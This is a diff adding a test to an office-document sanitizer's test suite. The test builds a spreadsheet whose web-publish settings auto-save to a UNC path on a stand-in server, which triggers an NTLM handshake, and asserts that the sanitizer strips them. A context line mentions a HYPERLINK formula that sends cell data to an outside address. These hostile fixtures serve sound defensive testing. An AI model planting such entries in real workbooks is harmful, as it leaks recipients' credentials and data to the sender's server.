@@ -389,6 +389,39 @@ def test_xlsx_dangerous_names_rules_and_hyperlink_function(tmp_path):
     assert _prescan_same_as_full(src, tmp_path)
 
 
+def test_web_publishing_to_a_path_of_the_senders_choice_is_removed(tmp_path, default_policy):
+    """webPublishItems (a sheet) and webPublishObjects (the workbook) name a destinationFile that Excel writes
+    the published page to on every save when autoRepublish is on: a UNC path is a write to (and an NTLM
+    handshake with) a server the sender chose, with no relationship for the link removal to see. Removed
+    from a sheet with formulas (parsed), from one without (which the rebuild would write as read) and from
+    the workbook; the inspect pre-scan must not skip them either."""
+    from samples.office_samples import make_xlsx
+
+    item = ('<webPublishItems count="1"><webPublishItem id="{n}" divId="d{n}" sourceType="sheet" '
+            'destinationFile="\\\\fs01.example\\公開\\p{n}.htm" autoRepublish="1"/></webPublishItems></worksheet>')
+    src = patch(make_xlsx(tmp_path / "b.xlsx"), tmp_path / "w.xlsx", edit={
+        "xl/worksheets/sheet1.xml": lambda x: x.replace("</worksheet>", item.format(n=1)),
+        "xl/worksheets/sheet2.xml": lambda x: x.replace("</worksheet>", item.format(n=2)),
+        "xl/workbook.xml": lambda x: x.replace("</workbook>", '<webPublishObjects count="1"><webPublishObject id="3" '
+                                               'divId="d3" destinationFile="file:///C:/Users/Public/p3.htm" '
+                                               'autoRepublish="1"/></webPublishObjects></workbook>')})
+    r = rebuild_ooxml(_ctx(tmp_path), src, tmp_path / "o.xlsx")
+    pub = [t for t in r.threats if t.id == "ooxml.external_link"]
+    assert sorted(t.location for t in pub) == ["xl/workbook.xml", "xl/worksheets/sheet1.xml",
+                                               "xl/worksheets/sheet2.xml"], r.threats
+    assert any("fs01.example" in t.detail for t in pub) and all(t.action == "neutralized" for t in pub)
+    with _zip(tmp_path / "o.xlsx") as z:
+        for name in ("xl/workbook.xml", "xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml"):
+            out = z.read(name).decode("utf-8")
+            assert "webPublish" not in out and "destinationFile" not in out, name
+        assert "集計表" in z.read("xl/workbook.xml").decode("utf-8")
+    assert inspect_ooxml(_ctx(tmp_path), tmp_path / "o.xlsx") == []
+    found = _prescan_same_as_full(src, tmp_path)
+    assert sum(t[0] == "ooxml.external_link" for t in found) == 3, found
+    res = process(src, "w.xlsx", tmp_path / "p", default_policy)
+    assert res.verdict == "sanitized" and "ooxml.external_link" in {t.id for t in res.threats}
+
+
 def test_hyperlink_with_a_computed_target_is_removed_value_kept(tmp_path, default_policy):
     """Issue 15 (10): HYPERLINK("http://x/?id="&A1), CONCAT(...), a reference: the address is built from
     cells, so it is removed like any fetching function; the cell keeps its displayed value."""
